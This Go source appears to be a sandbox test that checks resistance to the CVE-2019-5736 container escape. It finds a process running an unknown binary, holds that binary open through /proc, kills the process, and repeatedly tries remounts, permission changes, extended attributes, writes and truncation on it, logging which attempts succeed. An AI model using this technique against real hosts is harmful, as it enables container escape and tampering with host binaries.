package main

import (
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

// overwrite waits for a process that runs another binary than those at the
// paths given, holds its binary open, ends it, and tries to write the binary
// through the descriptor, again and again, for a minute. What came of the
// attempts replaces the file RESULT each time (CVE-2019-5736).
func overwrite(arguments []string) {
	result, known := arguments[0], arguments[1:]
	// Whoever holds the sandbox must not take this process along.
	syscall.RawSyscall(syscall.SYS_PRCTL, syscall.PR_SET_PDEATHSIG, 0, 0)
	held, pid := holdBinary(append(known, "/proc/self/exe"))
	fmt.Println("held")
	syscall.Kill(pid, syscall.SIGKILL)
	for began := time.Now(); time.Since(began) < time.Minute; {
		os.WriteFile(result+".next", []byte(results(writes(held))), 0o666)
		must(os.Rename(result+".next", result))
		time.Sleep(5 * time.Millisecond)
	}
}

// harmlessFiles are the files at paths, by device and inode.
func harmlessFiles(paths []string) map[[2]uint64]bool {
	files := make(map[[2]uint64]bool)
	for _, path := range paths {
		var stat syscall.Stat_t
		must(syscall.Stat(path, &stat))
		files[[2]uint64{stat.Dev, stat.Ino}] = true
	}
	return files
}

func holdBinary(known []string) (held, pid int) {
	harmless := harmlessFiles(known)
	for {
		entries, err := os.ReadDir("/proc")
		must(err)
		for _, entry := range entries {
			pid, err := strconv.Atoi(entry.Name())
			if err != nil {
				continue
			}
			fd, err := syscall.Open("/proc/"+entry.Name()+"/exe", syscall.O_RDONLY, 0)
			if err != nil {
				continue
			}
			var stat syscall.Stat_t
			if syscall.Fstat(fd, &stat) == nil && !harmless[[2]uint64{stat.Dev, stat.Ino}] {
				return fd, pid
			}
			syscall.Close(fd)
		}
	}
}

// writes are all ways to change a file that is open for reading, and the
// mount it was opened on.
func writes(held int) []attempt {
	path := "/proc/self/fd/" + strconv.Itoa(held)
	open := func(flags int) func() error {
		return func() error {
			fd, err := syscall.Open(path, flags, 0)
			if err == nil {
				syscall.Write(fd, []byte("overwritten"))
				syscall.Close(fd)
			}
			return err
		}
	}
	return []attempt{
		{"remount", func() error { return syscall.Mount("", path, "", syscall.MS_REMOUNT|syscall.MS_BIND, "") }},
		{"mount_setattr", func() error { return clearReadOnly(held) }},
		{"chmod", func() error { return syscall.Fchmod(held, 0o777) }},
		{"utimes", func() error { return syscall.Utimes(path, []syscall.Timeval{{}, {}}) }},
		{"setxattr", func() error { return syscall.Setxattr(path, "user.attacker", []byte("x"), 0) }},
		{"open for writing", open(syscall.O_WRONLY)},
		{"open for reading and writing", open(syscall.O_RDWR)},
		{"open for appending", open(syscall.O_WRONLY | syscall.O_APPEND)},
		{"open and truncate", open(syscall.O_WRONLY | syscall.O_TRUNC)},
		{"truncate", func() error { return syscall.Truncate(path, 0) }},
	}
}

func clearReadOnly(fd int) error {
	attr := struct{ set, clear, propagation, userns uint64 }{clear: 1} // MOUNT_ATTR_RDONLY
	empty := new(byte)
	const emptyPath, sysMountSetattr = 0x1000, 442
	_, _, errno := syscall.Syscall6(sysMountSetattr, uintptr(fd), uintptr(unsafe.Pointer(empty)), emptyPath, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr), 0)
	if errno != 0 {
		return errno
	}
	return nil
}
